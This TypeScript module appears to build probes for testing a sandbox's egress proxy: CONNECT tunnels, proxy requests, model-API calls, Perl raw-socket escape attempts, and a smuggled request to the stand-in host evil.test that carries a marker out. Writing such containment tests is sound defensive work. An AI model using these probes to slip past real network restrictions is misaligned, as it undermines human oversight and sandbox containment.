// What attempts at doors are made of: requests for a tunnel, plain requests, model requests, and what is said behind them. Pure.
// What the program that tries holds is filled in where it runs; nothing here knows a credential.

import type { Attempt, Exchange, Path, Script, Variant } from '../attempt.ts';
import { extensionOf, helloOf, serverNames } from '../client-hello.ts';
import { allowedHosts } from '../names.ts';

/** How the network door is told who asks. */
export const authority = 'Proxy-Authorization: Basic %%PROXY-AUTHORITY%%\r\n';

/** As long as a door may wait for a ClientHello, and a little. */
export const helloPatienceMs = 7_000;

/** A request for a tunnel, to the letter; `fields` are further header lines. */
export const tunnelTo = (target: string, fields = ''): string => `CONNECT ${target} HTTP/1.1\r\nHost: kit\r\n${authority}${fields}\r\n`;

/** A plain request in absolute form. */
export const requestTo = (url: string, fields = '', method = 'GET', host = 'kit'): string =>
  `${method} ${url} HTTP/1.1\r\nHost: ${host}\r\n${authority}Connection: close\r\n${fields}\r\n`;

/** A hello that carries the mark, beside whatever it asks for. */
export const markedHello = (mark: string, ...extensions: readonly Uint8Array[]): Buffer =>
  helloOf(...extensions, extensionOf(0x7a7a, Buffer.from(mark)));

/** A tunnel through which a hello for the same host is sent: what a client does. */
export const honestTunnel =
  (host: string, port = 443, target = `${host}:${port}`) =>
  (mark: string): Exchange => ({ parts: [tunnelTo(target), markedHello(mark, serverNames(host))], patienceMs: 1_500 });

/** A tunnel to an allowed host, and then these bytes. */
export const inTunnel =
  (said: (mark: string) => readonly (string | Uint8Array)[], pauseMs = 0, host = 'allowed.test') =>
  (mark: string): Exchange => ({ parts: [tunnelTo(`${host}:443`), ...said(mark)], pauseMs, patienceMs: helloPatienceMs });

/** Asks for each target by a tunnel, as a client would who means it. */
export const tunnels = (targets: Readonly<Record<string, string>>): readonly Variant[] =>
  Object.entries(targets).map(([name, target]) => ({
    name,
    does: (mark): Exchange => {
      const host = target.replace(/:[^:]*$/, '').replace(/^\[|\]$/g, '');
      return { parts: [tunnelTo(target), markedHello(mark, serverNames(host))], patienceMs: 1_500 };
    },
  }));

/** Asks for each authority by a plain request. */
export const requests = (authorities: Readonly<Record<string, string>>): readonly Variant[] =>
  Object.entries(authorities).map(([name, at]) => ({ name, does: (mark) => ({ parts: [requestTo(`http://${at}/${mark}`)] }) }));

export const raw = (name: string, text: (mark: string) => string, leaked?: Variant['leaked']): Variant => ({
  name,
  does: (mark) => ({ parts: [text(mark)], patienceMs: 1_500 }),
  ...(leaked && { leaked }),
});

export const shell = (name: string, text: (mark: string) => string): Variant => ({
  name,
  does: (mark): Script => ({ program: 'sh', text: text(mark) }),
});

export const perl = (name: string, text: (mark: string) => string): Variant => ({
  name,
  does: (mark): Script => ({ program: 'perl', text: text(mark) }),
});

const modelBody = (mark: string, more = ''): string =>
  `{"model":"kit-1","max_tokens":16,"messages":[{"role":"user","content":"${mark}"}]${more}}`;

/** A request to the model door, as an SDK sends it. */
export const modelRequest = (
  body: string,
  path = '/anthropic/v1/messages',
  fields = 'x-api-key: %%CREDENTIAL%%\r\n',
  method = 'POST',
): string =>
  `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1:7420\r\n${fields}anthropic-version: 2023-06-01\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;

export const modelSays = (mark: string, more = ''): string => modelRequest(modelBody(mark, more));

/** Outside with a credential, and from inside the jail. */
export const tunnelPaths: readonly Path[] = ['connect', 'jail-connect'];
export const requestPaths: readonly Path[] = ['forward', 'jail-forward'];
export const modelPaths: readonly Path[] = ['model', 'jail-model'];

/** An allowed name, for attempts that need one of the domain. */
export const allowedDomain = allowedHosts[1].slice(2);

/** Perl without a module: sockets by their numbers (socket(2)), and system calls by those of the two architectures. */
const tools = `
$SIG{ALRM} = sub { exit 1 }; alarm 6;
my $arm = \`uname -m\` =~ /aarch64/;
sub call { my ($x64, $arm64, @args) = @_; return syscall($arm ? $arm64 : $x64, @args) }
sub at4 { my ($ip, $port) = @_; return pack('S n C4 x8', 2, $port, split(/\\./, $ip)) }
sub at6 { my ($hex, $port) = @_; return pack('S n N H32 N', 10, $port, 0, $hex, 0) }
sub tcp { my ($family, $to, $what) = @_; socket(my $s, $family, 1, 0) or return 0; connect($s, $to) or return 0; syswrite($s, $what); select(undef, undef, undef, 0.1); return 1 }
sub udp { my ($family, $to, $what) = @_; socket(my $s, $family, 2, 0) or return 0; return defined(send($s, $what, 0, $to)) }
sub unix { my ($path) = @_; socket(my $s, 1, 1, 0) or return 0; return connect($s, pack('S a*', 1, $path)) }
`;

/** Gets through where the expression is true. */
export const whether = (name: string, expression: (mark: string) => string) =>
  perl(name, (mark) => `${tools}\nexit((${expression(mark)}) ? 0 : 1);`);

export const direct = (name: string, address: string, port: number) =>
  whether(name, (mark) => `tcp(2, at4('${address}', ${port}), "${mark}\\n")`);

export const noTools: Attempt['ways'][number] = { paths: ['mcp'], expected: 'not applicable', missing: 'tool door' };

/** A request that hides behind another one. */
export const hidden = (mark: string): string => `GET http://evil.test/${mark} HTTP/1.1\r\nHost: evil.test\r\n${authority}\r\n`;
